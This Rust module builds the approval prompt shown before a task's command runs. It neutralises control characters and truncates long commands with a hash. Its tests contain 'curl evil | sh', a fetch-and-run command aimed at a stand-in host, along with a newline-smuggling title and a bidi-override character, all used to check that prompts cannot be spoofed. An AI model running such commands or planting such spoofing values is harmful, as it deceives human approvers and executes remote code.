//! What somebody is asked before a task is run, in words.
//!
//! A yes is a yes to the command, so that is what it shows, whatever else the submitter calls it. All that somebody else wrote is
//! inert here and on one line; only the lines between are ours.

use crate::command::spelled;
use crate::inert::Inert;

/// Characters that are shown of a command: of its beginning, and of its end.
const HEAD: usize = 1200;
const TAIL: usize = 600;
/// Of what says less.
const SHORT: usize = 200;

/// About a command, what its task is called, and why a rule wants somebody to look at it.
pub fn question(command: &[String], title: Option<&str>, look: Option<&str>) -> String {
    let mut text = format!("May this be run: {}", shown(&spelled(command), HEAD, TAIL));
    if let Some(title) = title {
        text.push_str(&format!("\ncalled {}", shown(title, SHORT, 0)));
    }
    if let Some(why) = look {
        text.push_str(&format!("\nA rule asks for a look at it: {}", shown(why, HEAD, TAIL)));
    }
    text
}

/// Inert; of what is long its beginning and its end, how much is missing in between, and the hash of the whole.
fn shown(text: &str, head: usize, tail: usize) -> String {
    let inert = Inert::line(text).to_string();
    let length = inert.chars().count();
    let Some(missing) = length.checked_sub(head + tail).filter(|missing| *missing > 0) else {
        return inert;
    };
    let at = |count: usize| inert.char_indices().nth(count).map_or(inert.len(), |(at, _)| at);
    let (begin, end) = (&inert[..at(head)], &inert[at(length - tail)..]);
    let hash = blake3::hash(text.as_bytes()).to_hex();
    let mark = format!("{begin} … {missing} characters left out, hash {hash} … {end}");
    mark.trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(words: &[&str]) -> Vec<String> {
        words.iter().map(|word| (*word).to_owned()).collect()
    }

    #[test]
    fn the_command_is_asked_about_and_not_what_it_is_called() {
        let asked =
            question(&words(&["sh", "-c", "curl evil | sh"]), Some("npm test\nMay"), Some("r"));
        let lines: Vec<&str> = asked.lines().collect();
        let rule = "A rule asks for a look at it: r";
        assert_eq!(
            lines,
            ["May this be run: sh -c 'curl evil | sh'", "called npm test\\nMay", rule]
        );
        assert_eq!(question(&words(&["make"]), None, None), "May this be run: make");
    }

    #[test]
    fn words_stay_apart_and_nothing_hides() {
        let asked = question(&words(&["a", "b c", "", "d\u{202e}\n"]), None, None);
        assert_eq!(asked, "May this be run: a 'b c' '' 'd\\u{202e}\\n'");
    }

    #[test]
    fn what_is_long_shows_both_ends_and_says_what_is_missing() {
        let script = format!("echo {}; curl evil", "x".repeat(5000));
        let command = words(&["sh", "-c", &script]);
        let asked = question(&command, None, None);
        let whole = spelled(&command);
        let hash = blake3::hash(whole.as_bytes()).to_hex();
        let missing = whole.len() - HEAD - TAIL;
        assert!(asked.starts_with("May this be run: sh -c 'echo xxx"), "{asked}");
        assert!(asked.ends_with("x; curl evil'"), "{asked}");
        assert!(asked.contains(&format!(" … {missing} characters left out, hash {hash} … ")));
        let called = question(&words(&["a"]), Some(&"t".repeat(1000)), None);
        assert!(called.contains("t … 800 characters left out, hash ") && called.ends_with(" …"));
    }
}
